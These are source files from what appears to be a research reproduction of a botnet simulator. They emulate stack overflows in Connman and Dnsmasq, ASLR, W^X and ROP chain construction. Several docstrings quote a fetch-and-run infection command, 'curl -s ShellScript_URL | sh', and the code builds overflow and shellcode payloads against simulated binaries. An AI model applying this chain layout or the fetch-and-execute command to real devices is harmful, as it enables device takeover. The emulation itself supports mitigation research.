    # Export
    # ------------------------------------------------------------------
    def export_metrics(self) -> dict:
        """Registry snapshot with the scheduler family folded in."""
        if self.profiler is not None and not isinstance(self.metrics, NullRegistry):
            prof = self.profiler
            self.metrics.gauge(
                "sched_events_total", help="events dispatched by the scheduler"
            ).set(prof.events)
            self.metrics.gauge(
                "sched_events_per_sec", help="scheduler dispatch throughput"
            ).set(prof.events_per_sec())
            self.metrics.gauge(
                "sched_callback_wall_seconds", help="wall time spent in callbacks"
            ).set(prof.wall_seconds)
            self.metrics.gauge(
                "sched_heap_high_water", help="peak pending-event heap depth"
            ).set(prof.heap_high_water)
        return self.metrics.snapshot()

    def write_metrics_json(self, path: str) -> None:
        import json

        with open(path, "w", encoding="utf-8") as handle:
            json.dump(self.export_metrics(), handle, indent=2, sort_keys=True)

    def write_trace_chrome(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(self.tracer.to_chrome_json())

    def write_trace_jsonl(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(self.tracer.to_jsonl())

    def write_spans_jsonl(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(self.spans.to_jsonl())


class NullObservatory:
    """The do-nothing default every bare Simulator starts with."""

    metrics = NULL_REGISTRY
    tracer = NULL_TRACER
    profiler = None
    spans = NULL_SPANS
    recorder = NULL_RECORDER
    instrumented = False

    def export_metrics(self) -> dict:
        return NULL_REGISTRY.snapshot()


NULL_OBSERVATORY = NullObservatory()
