"""ROP: gadget tables, the attacker-side chain builder, and the
victim-side chain interpreter.

The paper adapts English et al.'s ROP exploit so the hijacked daemon ends
up performing::

    execlp("sh", "sh", "-c", "curl -s ShellScript_URL | sh", NULL)

We model ROP at the level that matters for the experiment series:

* every emulated binary exposes a deterministic :class:`GadgetTable`
  (derived from its name/version/build seed — "a significant number of
  binaries are reused across products and vendors", §III-B, which is why
  one chain works fleet-wide);
* the attacker builds a byte payload from *static* gadget addresses plus
  the ASLR slide it believes the victim has (zero when ASLR is off, the
  leaked value after a successful info-leak);
* the victim interprets the spilled qwords: each popped address must
  resolve — through the victim's *actual* slide — to a gadget inside an
  executable mapping, otherwise the process segfaults and recruitment
  fails.  W^X and ASLR therefore behave exactly like the paper's attack
  model says they should.

String arguments travel inside the payload and are referenced by tagged
qwords (``STR_TAG | offset``) — our stand-in for the rsp-relative
addressing a real chain uses to find its data without a stack leak.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.memsafety.layout import AddressSpace, SegmentationFault

QWORD = 8
#: tag marking a qword as a payload-relative string reference
STR_TAG = 0x5354_5200_0000_0000
STR_OFFSET_MASK = 0xFFFF_FFFF

#: micro-ops our gadget alphabet provides
OP_POP_RDI = "pop rdi ; ret"
OP_POP_RSI = "pop rsi ; ret"
OP_POP_RDX = "pop rdx ; ret"
OP_POP_RCX = "pop rcx ; ret"
OP_RET = "ret"
OP_EXECLP = "call execlp"

ALL_OPS = (OP_POP_RDI, OP_POP_RSI, OP_POP_RDX, OP_POP_RCX, OP_RET, OP_EXECLP)

_POP_TARGET = {
    OP_POP_RDI: "rdi",
    OP_POP_RSI: "rsi",
    OP_POP_RDX: "rdx",
    OP_POP_RCX: "rcx",
}


def pack_qword(value: int) -> bytes:
    return value.to_bytes(QWORD, "little")


class GadgetTable:
    """Static (pre-ASLR) gadget addresses inside one binary's text segment."""

    def __init__(self, text_base: int, addresses: Dict[str, int]):
        self.text_base = text_base
        self.addresses = dict(addresses)
        self.by_address = {address: op for op, address in addresses.items()}

    @classmethod
    def discover(
        cls, build_seed: int, text_base: int, text_size: int = 0x40000
    ) -> "GadgetTable":
        """Deterministically "find" gadgets in a binary build.

        The attacker and the loaded binary derive the same table from the
        same build seed — modelling offline analysis of the same binary
        the fleet ships ("we assume that Attacker can access Devs'
        binaries and analyze them", §III-B).
        """
        rng = random.Random(build_seed)
        addresses: Dict[str, int] = {}
        used = set()
        for op in ALL_OPS:
            while True:
                offset = rng.randrange(0x100, text_size - 0x10, 2)
                if offset not in used:
                    used.add(offset)
                    break
            addresses[op] = text_base + offset
        return cls(text_base, addresses)

    def address_of(self, op: str) -> int:
        return self.addresses[op]


@dataclass
class SyscallRequest:
    """What an executed chain asked the 'kernel' for."""

    name: str
    args: List[str]


@dataclass
class ExploitOutcome:
    """Result of letting a hijacked process run its attacker bytes."""

    kind: str  # "syscall" | "crash"
    syscall: Optional[SyscallRequest] = None
    crash_reason: str = ""

    @property
    def succeeded(self) -> bool:
        return self.kind == "syscall"


class ChainBuilder:
    """Attacker-side: compose overflow payloads against a known binary."""

    def __init__(self, gadgets: GadgetTable, slide: int = 0):
        self.gadgets = gadgets
        self.slide = slide

    def _gadget(self, op: str) -> int:
        return self.gadgets.address_of(op) + self.slide

    def execlp_chain(self, file: str, argv: Sequence[str]) -> Tuple[int, bytes]:
        """Build ``(first_return_address, spill_bytes)`` for an execlp call.

        The first gadget address overwrites the saved return address; the
        remaining qwords plus the string table spill past it.
        """
        if len(argv) > 3:
            raise ValueError("chain supports at most three argv strings")
        ops = [OP_POP_RDI, OP_POP_RSI, OP_POP_RDX, OP_POP_RCX]
        strings = [file] + list(argv) + [""] * (3 - len(argv))
        # First pass: lay out qwords with placeholder string refs; string
        # table starts right after the final gadget qword.
        qword_count = 0
        for _ in strings:
            qword_count += 2  # pop gadget + operand
        qword_count += 1  # execlp gadget
        # spill = qwords after the ret slot, so the first pop's *operand*
        # is spill[0], the second pop gadget is spill[1], ...
        table_offset = (qword_count - 1) * QWORD
        chain: List[int] = []
        string_table = bytearray()
        for index, (op, text) in enumerate(zip(ops, strings)):
            if index > 0:
                chain.append(self._gadget(op))
            string_offset = table_offset + len(string_table)
            string_table.extend(text.encode() + b"\x00")
            chain.append(STR_TAG | string_offset)
        chain.append(self._gadget(OP_EXECLP))
        first_return = self._gadget(ops[0])
        spill = b"".join(pack_qword(value) for value in chain) + bytes(string_table)
        return first_return, spill

    def overflow_payload(
        self,
        buffer_size: int,
        file: str,
        argv: Sequence[str],
        filler: bytes = b"A",
    ) -> bytes:
        """The full overflow blob: padding, fake RBP, chain, strings."""
        first_return, spill = self.execlp_chain(file, argv)
        padding = (filler * buffer_size)[:buffer_size]
        fake_rbp = pack_qword(0x4242_4242_4242_4242)
        return padding + fake_rbp + pack_qword(first_return) + spill

    def shellcode_payload(self, buffer_size: int, shellcode: bytes,
                          stack_address: int) -> bytes:
        """A *code-injection* payload (return into stack shellcode).

        Kept for the W^X ablation: against a W^X-enabled Dev this payload
        must fail with a fault, which tests assert.
        """
        padding = (b"\x90" * buffer_size)[:buffer_size]
        fake_rbp = pack_qword(0x4242_4242_4242_4242)
        return padding + fake_rbp + pack_qword(stack_address) + shellcode


class ChainInterpreter:
    """Victim-side: run the bytes a hijacked process returns into."""

    def __init__(
        self,
        gadgets: GadgetTable,
        slide: int,
        address_space: AddressSpace,
    ):
        self.gadgets = gadgets
        self.slide = slide
        self.address_space = address_space

    def _resolve(self, runtime_address: int) -> str:
        """Map a runtime address back to a gadget op, enforcing X perms."""
        self.address_space.check_execute(runtime_address)
        op = self.gadgets.by_address.get(runtime_address - self.slide)
        if op is None:
            raise SegmentationFault(
                runtime_address, "return into non-gadget instruction stream"
            )
        return op

    def run(self, first_return_address: int, spill: bytes) -> ExploitOutcome:
        """Interpret the hijacked control flow; never raises — crashes are
        reported as outcomes (the daemon process decides what a crash
        does to it)."""
        registers: Dict[str, int] = {}
        try:
            op = self._resolve(first_return_address)
            cursor = 0
            steps = 0
            while True:
                steps += 1
                if steps > 64:
                    raise SegmentationFault(0, "runaway chain")
                if op in _POP_TARGET:
                    if cursor + QWORD > len(spill):
                        raise SegmentationFault(0, "chain ran off the stack")
                    registers[_POP_TARGET[op]] = int.from_bytes(
                        spill[cursor: cursor + QWORD], "little"
                    )
                    cursor += QWORD
                elif op == OP_RET:
                    pass
                elif op == OP_EXECLP:
                    return self._do_execlp(registers, spill)
                # Fetch the next gadget address from the stack.
                if cursor + QWORD > len(spill):
                    raise SegmentationFault(0, "chain ran off the stack")
                next_address = int.from_bytes(spill[cursor: cursor + QWORD], "little")
                cursor += QWORD
                op = self._resolve(next_address)
        except SegmentationFault as fault:
            return ExploitOutcome(kind="crash", crash_reason=str(fault))

    def _do_execlp(self, registers: Dict[str, int], spill: bytes) -> ExploitOutcome:
        args: List[str] = []
        for register in ("rdi", "rsi", "rdx", "rcx"):
            value = registers.get(register)
            if value is None:
                return ExploitOutcome(
                    kind="crash",
                    crash_reason=f"execlp with uninitialized {register}",
                )
            text = self._read_string(value, spill)
            if text is None:
                return ExploitOutcome(
                    kind="crash",
                    crash_reason=f"execlp arg in {register} dereferences junk",
                )
            args.append(text)
        # Trailing empty strings model the NULL terminator.
        while args and args[-1] == "":
            args.pop()
        if not args:
            return ExploitOutcome(kind="crash", crash_reason="execlp with no path")
        return ExploitOutcome(
            kind="syscall",
            syscall=SyscallRequest("execlp", args),
        )

    @staticmethod
    def _read_string(value: int, spill: bytes) -> Optional[str]:
        if value & ~STR_OFFSET_MASK != STR_TAG:
            return None
        offset = value & STR_OFFSET_MASK
        if offset >= len(spill):
            return None
        end = spill.find(b"\x00", offset)
        if end < 0:
            return None
        try:
            return spill[offset:end].decode()
        except UnicodeDecodeError:
            return None
