"""ASLR: randomized load slides for emulated binaries.

When a Dev enables ASLR its daemon's text segment loads at
``static_base + slide`` with a fresh per-process slide.  A ROP chain
built against static addresses then dereferences garbage and the process
crashes instead of being recruited — unless the attacker first leaks the
runtime base (see :mod:`repro.services.exploits`, which models the
two-stage leak-then-ROP exploit of English et al.).
"""

from __future__ import annotations

import random

from repro.memsafety.layout import PAGE_SIZE

#: number of random bits in the slide (28 bits of entropy, page-aligned)
SLIDE_ENTROPY_BITS = 28


def aslr_slide(rng: random.Random, entropy_bits: int = SLIDE_ENTROPY_BITS) -> int:
    """Draw a page-aligned, non-zero load slide."""
    if entropy_bits <= 0:
        return 0
    while True:
        slide = rng.getrandbits(entropy_bits) * PAGE_SIZE
        if slide != 0:
            return slide


def slide_for(enabled: bool, rng: random.Random) -> int:
    """Slide to apply given whether ASLR is enabled for this process."""
    return aslr_slide(rng) if enabled else 0
