"""The vulnerable stack frame: where the overflow physically happens.

Both CVEs the paper exploits are *stack-based buffer overflows*: a parser
copies attacker-controlled bytes into a fixed-size automatic buffer with
no bounds check.  :class:`StackFrame` models the relevant frame slice of
an x86-64-style stack::

        low addresses
        +--------------------+
        |  char buffer[N]    |   <- unchecked copy lands here
        +--------------------+
        |  saved RBP (8B)    |
        +--------------------+
        |  saved RET  (8B)   |   <- overwriting this hijacks control flow
        +--------------------+
        |  caller stack ...  |   <- overflow spill-over = ROP chain bytes
        +--------------------+
        high addresses

:meth:`StackFrame.copy_unchecked` performs the faithful unbounded copy and
reports exactly which saved slots were clobbered, so the process model can
decide between normal return, crash, and hijack.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

SAVED_SLOT_SIZE = 8


@dataclass
class OverflowEvent:
    """Outcome of one unchecked copy into a frame."""

    copied: int
    overflowed: bool
    rbp_overwritten: bool
    ret_overwritten: bool
    #: new saved return address (little-endian) if fully overwritten
    new_return_address: Optional[int]
    #: bytes spilled past the return-address slot (the ROP chain + data)
    spill: bytes = b""


class StackFrame:
    """One function's frame with a fixed buffer and saved registers."""

    def __init__(
        self,
        function: str,
        buffer_size: int,
        return_address: int,
        saved_rbp: int = 0x7FFF_F00F_0000,
        buffer_address: int = 0x7FFF_F00E_0000,
    ):
        if buffer_size <= 0:
            raise ValueError("buffer size must be positive")
        self.function = function
        self.buffer_size = buffer_size
        self.buffer = bytearray(buffer_size)
        self.buffer_address = buffer_address
        self.legitimate_return_address = return_address
        self.return_address = return_address
        self.saved_rbp = saved_rbp
        self.spill = b""

    @property
    def return_slot_offset(self) -> int:
        """Offset from buffer start to the saved return address."""
        return self.buffer_size + SAVED_SLOT_SIZE

    @property
    def hijacked(self) -> bool:
        return self.return_address != self.legitimate_return_address

    def copy_checked(self, data: bytes) -> int:
        """The *patched* behaviour: truncate at the buffer boundary."""
        length = min(len(data), self.buffer_size)
        self.buffer[:length] = data[:length]
        return length

    def copy_unchecked(self, data: bytes) -> OverflowEvent:
        """The vulnerable ``memcpy``/``strcpy``: no bounds check.

        Bytes beyond the buffer clobber saved RBP, then the saved return
        address, then spill onto the caller's stack (which is where the
        attacker parks the rest of the ROP chain).
        """
        in_buffer = min(len(data), self.buffer_size)
        self.buffer[:in_buffer] = data[:in_buffer]
        overflow = data[self.buffer_size:]
        rbp_bytes = overflow[:SAVED_SLOT_SIZE]
        ret_bytes = overflow[SAVED_SLOT_SIZE: 2 * SAVED_SLOT_SIZE]
        spill = overflow[2 * SAVED_SLOT_SIZE:]
        rbp_overwritten = len(rbp_bytes) > 0
        ret_overwritten = len(ret_bytes) == SAVED_SLOT_SIZE
        new_return: Optional[int] = None
        if rbp_overwritten:
            # Partial RBP overwrite still corrupts it; extend with old bytes.
            old = self.saved_rbp.to_bytes(SAVED_SLOT_SIZE, "little")
            self.saved_rbp = int.from_bytes(
                rbp_bytes + old[len(rbp_bytes):], "little"
            )
        if ret_overwritten:
            new_return = int.from_bytes(ret_bytes, "little")
            self.return_address = new_return
        elif ret_bytes:
            # Partial return-address overwrite: corrupt, not controlled.
            old = self.return_address.to_bytes(SAVED_SLOT_SIZE, "little")
            self.return_address = int.from_bytes(
                ret_bytes + old[len(ret_bytes):], "little"
            )
        self.spill = spill
        return OverflowEvent(
            copied=len(data),
            overflowed=len(data) > self.buffer_size,
            rbp_overwritten=rbp_overwritten,
            ret_overwritten=ret_overwritten,
            new_return_address=new_return,
            spill=spill,
        )

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        status = "HIJACKED" if self.hijacked else "intact"
        return (
            f"<StackFrame {self.function} buf={self.buffer_size}B "
            f"ret={self.return_address:#x} {status}>"
        )
