"""The syscall surface a hijacked process can reach.

A successful chain produces a :class:`SyscallInvocation`; the daemon
process model hands it to its container, which — for ``execlp`` — spawns
the requested program.  That is the moment the paper's infection chain
crosses from memory corruption into "run attacker-chosen code":
``execlp("sh", "sh", "-c", "curl -s ShellScript_URL | sh")``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Sequence


class SyscallError(RuntimeError):
    """The emulated kernel rejected the invocation."""


@dataclass(frozen=True)
class SyscallInvocation:
    """A resolved syscall request (name + string arguments)."""

    name: str
    args: Sequence[str]


def perform_execlp(invocation: SyscallInvocation, process_context) -> object:
    """Execute an ``execlp`` invocation inside the caller's container.

    ``execlp`` searches PATH; the emulated containers install their shell
    at ``/bin/sh``, so a bare ``sh`` resolves there.  Returns the spawned
    :class:`repro.container.process.ContainerProcess`.
    """
    if invocation.name != "execlp":
        raise SyscallError(f"unsupported syscall {invocation.name!r}")
    argv: List[str] = list(invocation.args)
    if not argv:
        raise SyscallError("execlp with empty argv")
    path = argv[0]
    if "/" not in path:
        path = f"/bin/{path}"
    # execlp(file, arg0, arg1, ...): arg0 is the program name by
    # convention; pass the remaining args through.
    run_argv = [path] + argv[2:] if len(argv) > 1 else [path]
    return process_context.spawn(run_argv)
