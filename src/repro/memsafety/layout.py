"""Virtual address-space model with permissioned regions and W^X.

The paper's attack model (§III-B): Devs enable some subset of W^X and
ASLR, so the Attacker "cannot perform code injection or return-to-libc
attacks" and must ROP instead.  The enforcement point for that statement
is here: a hijacked return address is only honoured if it points into an
*executable* mapping, and under W^X no mapping is ever both writable and
executable — so return-into-stack shellcode faults.
"""

from __future__ import annotations

from typing import List, Optional

PAGE_SIZE = 0x1000


class SegmentationFault(Exception):
    """The emulated process touched memory it must not (crash, not exploit)."""

    def __init__(self, address: int, reason: str):
        super().__init__(f"SIGSEGV at {address:#x}: {reason}")
        self.address = address
        self.reason = reason


class MemoryRegion:
    """A contiguous mapping: [base, base+size) with rwx permissions."""

    __slots__ = ("name", "base", "size", "readable", "writable", "executable")

    def __init__(
        self,
        name: str,
        base: int,
        size: int,
        readable: bool = True,
        writable: bool = False,
        executable: bool = False,
    ):
        if base < 0 or size <= 0:
            raise ValueError("region base/size must be non-negative/positive")
        if base % PAGE_SIZE or size % PAGE_SIZE:
            raise ValueError(f"region {name!r} not page-aligned")
        self.name = name
        self.base = base
        self.size = size
        self.readable = readable
        self.writable = writable
        self.executable = executable

    @property
    def end(self) -> int:
        return self.base + self.size

    def contains(self, address: int) -> bool:
        return self.base <= address < self.end

    def perms(self) -> str:
        return (
            ("r" if self.readable else "-")
            + ("w" if self.writable else "-")
            + ("x" if self.executable else "-")
        )

    def __repr__(self) -> str:
        return f"<Region {self.name} {self.base:#x}-{self.end:#x} {self.perms()}>"


class AddressSpace:
    """The mappings of one emulated process.

    With ``wx_enforced`` (the W^X mitigation), mapping a region writable
    *and* executable raises — and :meth:`standard_process_layout` maps the
    stack non-executable.  Without it, the stack is executable the way a
    pre-NX embedded build would be, and injected shellcode would run.
    """

    def __init__(self, wx_enforced: bool = True):
        self.wx_enforced = wx_enforced
        self.regions: List[MemoryRegion] = []

    def map_region(self, region: MemoryRegion) -> MemoryRegion:
        if self.wx_enforced and region.writable and region.executable:
            raise SegmentationFault(
                region.base, f"W^X violation mapping {region.name} rwx"
            )
        for existing in self.regions:
            if region.base < existing.end and existing.base < region.end:
                raise ValueError(f"{region!r} overlaps {existing!r}")
        self.regions.append(region)
        return region

    def region_at(self, address: int) -> Optional[MemoryRegion]:
        for region in self.regions:
            if region.contains(address):
                return region
        return None

    def region_named(self, name: str) -> MemoryRegion:
        for region in self.regions:
            if region.name == name:
                return region
        raise KeyError(f"no region named {name!r}")

    def check_execute(self, address: int) -> MemoryRegion:
        """Instruction fetch at ``address``; faults on non-executable."""
        region = self.region_at(address)
        if region is None:
            raise SegmentationFault(address, "unmapped")
        if not region.executable:
            raise SegmentationFault(
                address, f"instruction fetch in non-executable region {region.name}"
            )
        return region

    def check_write(self, address: int) -> MemoryRegion:
        region = self.region_at(address)
        if region is None:
            raise SegmentationFault(address, "unmapped")
        if not region.writable:
            raise SegmentationFault(address, f"write to read-only region {region.name}")
        return region

    def maps(self) -> str:
        """/proc/self/maps-style dump (debugging and DESIGN examples)."""
        return "\n".join(
            f"{region.base:016x}-{region.end:016x} {region.perms()} {region.name}"
            for region in sorted(self.regions, key=lambda region: region.base)
        )


def standard_process_layout(
    text_base: int,
    text_size: int = 0x40000,
    wx_enforced: bool = True,
    stack_base: int = 0x7FFF_F000_0000,
    stack_size: int = 0x100000,
) -> AddressSpace:
    """Map the classic text/rodata/data/heap/stack layout.

    Without W^X the stack is mapped executable (no-NX legacy build), which
    is exactly what makes naive shellcode injection viable on such
    devices.
    """
    space = AddressSpace(wx_enforced=wx_enforced)
    space.map_region(MemoryRegion("text", text_base, text_size, executable=True))
    space.map_region(MemoryRegion("rodata", text_base + text_size, 0x10000))
    space.map_region(
        MemoryRegion("data", text_base + text_size + 0x10000, 0x20000, writable=True)
    )
    space.map_region(MemoryRegion("heap", 0x5555_0000_0000, 0x200000, writable=True))
    space.map_region(
        MemoryRegion(
            "stack",
            stack_base,
            stack_size,
            writable=True,
            executable=not wx_enforced,
        )
    )
    return space
