"""repro.memsafety — the memory-error exploitation substrate.

The paper's whole recruitment story (§III-A, research question R1) rests
on stack-based buffer overflows: Connman's CVE-2017-12865 and Dnsmasq's
CVE-2017-14493 let the Attacker smash a stack buffer from the network,
pivot to a ROP chain (code injection and return-to-libc are assumed
blocked by W^X per the attack model), and land in
``execlp("sh", "sh", "-c", "curl -s ShellScript_URL | sh", NULL)``.

This package provides the machinery to model that faithfully:

* :mod:`repro.memsafety.layout` — a virtual address space with permissioned
  regions and W^X enforcement;
* :mod:`repro.memsafety.aslr` — address-space layout randomization slides;
* :mod:`repro.memsafety.stack` — the vulnerable stack frame: a fixed-size
  buffer, saved base pointer and saved return address that an unchecked
  copy can clobber;
* :mod:`repro.memsafety.rop` — gadget tables, the attacker-side chain
  builder and the victim-side chain interpreter;
* :mod:`repro.memsafety.syscalls` — the syscall surface a chain can reach.
"""

from repro.memsafety.aslr import aslr_slide
from repro.memsafety.layout import AddressSpace, MemoryRegion, SegmentationFault
from repro.memsafety.rop import (
    ChainBuilder,
    ChainInterpreter,
    ExploitOutcome,
    GadgetTable,
)
from repro.memsafety.stack import OverflowEvent, StackFrame
from repro.memsafety.syscalls import SyscallInvocation

__all__ = [
    "AddressSpace",
    "ChainBuilder",
    "ChainInterpreter",
    "ExploitOutcome",
    "GadgetTable",
    "MemoryRegion",
    "OverflowEvent",
    "SegmentationFault",
    "StackFrame",
    "SyscallInvocation",
    "aslr_slide",
]
