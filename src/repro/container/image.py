"""Container images: a filesystem snapshot plus run metadata.

Mirrors the Docker pieces DDoSim relies on: named/tagged images holding
the user-selected binaries for Devs and the attack tooling for Attacker,
with per-architecture variants in the Buildx style (§II-B: "DDoSim
accommodates diverse binary architectures (e.g., MIPS, ARM) for Devs
using Docker Buildx").
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.container.fs import InMemoryFilesystem

#: architectures the emulated Buildx can target
SUPPORTED_ARCHITECTURES = ("x86_64", "arm32", "arm64", "mips", "mipsel")


class Image:
    """An immutable-by-convention container image."""

    def __init__(
        self,
        name: str,
        tag: str = "latest",
        architecture: str = "x86_64",
        entrypoint: Optional[List[str]] = None,
        env: Optional[Dict[str, str]] = None,
        exposed_ports: Optional[List[int]] = None,
        base_rss_bytes: int = 8 * 1024 * 1024,
    ):
        if architecture not in SUPPORTED_ARCHITECTURES:
            raise ValueError(
                f"unsupported architecture {architecture!r}; "
                f"expected one of {SUPPORTED_ARCHITECTURES}"
            )
        self.name = name
        self.tag = tag
        self.architecture = architecture
        self.fs = InMemoryFilesystem()
        self.entrypoint = list(entrypoint) if entrypoint else []
        self.env = dict(env or {})
        self.exposed_ports = list(exposed_ports or [])
        #: baseline container memory charged before any process RSS
        self.base_rss_bytes = base_rss_bytes

    @property
    def reference(self) -> str:
        """The pullable reference, e.g. ``devs-connman:latest``."""
        return f"{self.name}:{self.tag}"

    def size_bytes(self) -> int:
        return self.fs.total_bytes

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return f"<Image {self.reference} [{self.architecture}] {self.size_bytes()}B>"
