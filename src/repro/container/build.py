"""Dockerfile-style image building, including Buildx multi-arch bakes.

DDoSim "begins by creating and building Docker containers for Attacker
and Devs" (§IV-A).  :class:`ImageBuilder` consumes a small Dockerfile
dialect so experiment definitions read like the real thing::

    FROM scratch
    COPY connman /usr/sbin/connmand
    RUN chmod +x /usr/sbin/connmand
    EXPOSE 53/udp
    ENTRYPOINT ["/usr/sbin/connmand"]

Supported instructions: ``FROM``, ``COPY``, ``RUN`` (only ``chmod`` and
``echo ... >> file`` — the two mutations our images need), ``ENV``,
``EXPOSE``, ``ENTRYPOINT``, ``CMD``, ``LABEL`` (recorded), ``#`` comments.
``buildx_bake`` builds one image per requested architecture, tagging them
``name:tag-<arch>`` like a Buildx manifest's per-platform images.
"""

from __future__ import annotations

import json
import shlex
from typing import Dict, List, Optional, Sequence

from repro.container.fs import FileEntry
from repro.container.image import Image, SUPPORTED_ARCHITECTURES


class BuildError(RuntimeError):
    """Raised when a Dockerfile cannot be parsed or applied."""


class BuildContext:
    """The build context: named artifacts COPY can pull from.

    Artifacts are :class:`FileEntry` objects so they can carry attached
    program behaviour (our substitute for compiled machine code).
    """

    def __init__(self) -> None:
        self._artifacts: Dict[str, FileEntry] = {}

    def add(self, name: str, data: bytes, mode: int = 0o644, program=None) -> None:
        self._artifacts[name] = FileEntry(data, mode, program=program)

    def add_entry(self, name: str, entry: FileEntry) -> None:
        self._artifacts[name] = entry

    def get(self, name: str) -> FileEntry:
        entry = self._artifacts.get(name)
        if entry is None:
            raise BuildError(f"COPY source {name!r} not in build context")
        return entry


class ImageBuilder:
    """Builds :class:`Image` objects from Dockerfile text."""

    def __init__(self, context: Optional[BuildContext] = None):
        self.context = context or BuildContext()

    def build(
        self,
        dockerfile: str,
        name: str,
        tag: str = "latest",
        architecture: str = "x86_64",
    ) -> Image:
        image = Image(name, tag, architecture)
        saw_from = False
        for line_number, raw_line in enumerate(dockerfile.splitlines(), start=1):
            line = raw_line.strip()
            if not line or line.startswith("#"):
                continue
            instruction, _, rest = line.partition(" ")
            instruction = instruction.upper()
            rest = rest.strip()
            if not saw_from and instruction != "FROM":
                raise BuildError(f"line {line_number}: first instruction must be FROM")
            try:
                if instruction == "FROM":
                    saw_from = True
                    self._apply_from(image, rest)
                elif instruction == "COPY":
                    self._apply_copy(image, rest)
                elif instruction == "RUN":
                    self._apply_run(image, rest)
                elif instruction == "ENV":
                    self._apply_env(image, rest)
                elif instruction == "EXPOSE":
                    self._apply_expose(image, rest)
                elif instruction in ("ENTRYPOINT", "CMD"):
                    image.entrypoint = self._parse_exec_form(rest)
                elif instruction == "LABEL":
                    pass  # recorded for fidelity; no behaviour
                else:
                    raise BuildError(f"unsupported instruction {instruction}")
            except BuildError as error:
                raise BuildError(f"line {line_number}: {error}") from None
        if not saw_from:
            raise BuildError("Dockerfile has no FROM instruction")
        return image

    # ------------------------------------------------------------------
    # Instruction handlers
    # ------------------------------------------------------------------
    def _apply_from(self, image: Image, rest: str) -> None:
        if not rest:
            raise BuildError("FROM needs a base image name")
        # Base images are 'scratch' or tiny rootfs stand-ins; we model the
        # base purely as its memory footprint contribution.
        if rest not in ("scratch", "alpine", "debian:slim", "busybox"):
            raise BuildError(f"unknown base image {rest!r}")
        base_rss = {"scratch": 2, "busybox": 4, "alpine": 6, "debian:slim": 24}[rest]
        image.base_rss_bytes = base_rss * 1024 * 1024

    def _apply_copy(self, image: Image, rest: str) -> None:
        parts = shlex.split(rest)
        if len(parts) != 2:
            raise BuildError(f"COPY needs exactly 'src dst', got {rest!r}")
        source, destination = parts
        entry = self.context.get(source)
        image.fs.write_file(
            destination, entry.data, mode=entry.mode, program=entry.program
        )

    def _apply_run(self, image: Image, rest: str) -> None:
        parts = shlex.split(rest)
        if not parts:
            raise BuildError("empty RUN")
        if parts[0] == "chmod":
            if len(parts) != 3:
                raise BuildError(f"RUN chmod needs 'chmod MODE PATH', got {rest!r}")
            mode_text, path = parts[1], parts[2]
            entry = image.fs.entry(path)
            if mode_text == "+x":
                entry.mode |= 0o111
            else:
                entry.mode = int(mode_text, 8)
            return
        if parts[0] == "echo":
            # echo TEXT >> PATH  (shlex keeps >> as its own token)
            if len(parts) >= 4 and parts[-2] == ">>":
                text = " ".join(parts[1:-2])
                image.fs.append(parts[-1], text.encode() + b"\n")
                return
            raise BuildError(f"RUN echo only supports 'echo TEXT >> PATH', got {rest!r}")
        raise BuildError(f"RUN only supports chmod/echo in this emulation, got {parts[0]!r}")

    def _apply_env(self, image: Image, rest: str) -> None:
        key, sep, value = rest.partition("=")
        if not sep:
            raise BuildError(f"ENV needs KEY=VALUE, got {rest!r}")
        image.env[key.strip()] = value.strip()

    def _apply_expose(self, image: Image, rest: str) -> None:
        port_text = rest.split("/")[0]
        if not port_text.isdigit():
            raise BuildError(f"EXPOSE needs a port number, got {rest!r}")
        image.exposed_ports.append(int(port_text))

    @staticmethod
    def _parse_exec_form(rest: str) -> List[str]:
        if rest.startswith("["):
            try:
                parsed = json.loads(rest)
            except json.JSONDecodeError as error:
                raise BuildError(f"bad exec-form JSON: {error}") from None
            if not isinstance(parsed, list) or not all(isinstance(x, str) for x in parsed):
                raise BuildError("exec form must be a JSON array of strings")
            return parsed
        return shlex.split(rest)


def buildx_bake(
    builder: ImageBuilder,
    dockerfile: str,
    name: str,
    architectures: Sequence[str],
    tag: str = "latest",
) -> Dict[str, Image]:
    """Build one image per architecture (Docker Buildx's multi-platform
    bake), tagged ``tag-<arch>``.  Returns ``{arch: Image}``."""
    images: Dict[str, Image] = {}
    for architecture in architectures:
        if architecture not in SUPPORTED_ARCHITECTURES:
            raise BuildError(f"unsupported architecture {architecture!r}")
        images[architecture] = builder.build(
            dockerfile, name, tag=f"{tag}-{architecture}", architecture=architecture
        )
    return images
