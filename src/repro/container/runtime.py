"""The container engine: image store, container lifecycle, stats.

The `docker` daemon analogue.  DDoSim's initialization phase (§IV-A of
the paper) — "creating and building Docker containers for Attacker and
Devs ... connecting them to the virtual network interfaces and bridges"
— maps onto :meth:`ContainerRuntime.create`, :meth:`attach_network` and
:meth:`ContainerRuntime.start`.
"""

from __future__ import annotations

import itertools
from typing import Dict, List, Optional, Tuple

from repro.container.container import Container, ContainerError
from repro.container.image import Image
from repro.container.veth import VethPair
from repro.netsim.node import Node
from repro.netsim.simulator import Simulator


class ContainerRuntime:
    """Engine owning all images and containers of one simulation."""

    def __init__(self, sim: Simulator, seed: int = 0):
        self.sim = sim
        self.seed = seed
        self.images: Dict[str, Image] = {}
        self.containers: Dict[str, Container] = {}
        #: the live veth pair per container name (attach_network installs,
        #: stop detaches — keeping the ghost node for a later restart)
        self.veths: Dict[str, VethPair] = {}
        self._id_counter = itertools.count(1)
        obs = sim.obs
        self._tracer = obs.tracer
        # Container lifecycle is low-rate, so every transition is noted
        # into the always-on flight recorder: a post-mortem dump shows
        # the churn run-up to whatever died.
        self._recorder = obs.recorder
        self._spawn_counter = obs.metrics.counter(
            "container_spawns_total", help="containers started"
        )
        self._stop_counter = obs.metrics.counter(
            "container_stops_total", help="containers stopped"
        )
        obs.metrics.gauge(
            "containers_running", help="containers currently running",
            fn=lambda: len(self.running_containers()),
        )

    # ------------------------------------------------------------------
    # Images
    # ------------------------------------------------------------------
    def add_image(self, image: Image) -> Image:
        """Register an image under its ``name:tag`` reference."""
        self.images[image.reference] = image
        return image

    def get_image(self, reference: str) -> Image:
        if ":" not in reference:
            reference = f"{reference}:latest"
        image = self.images.get(reference)
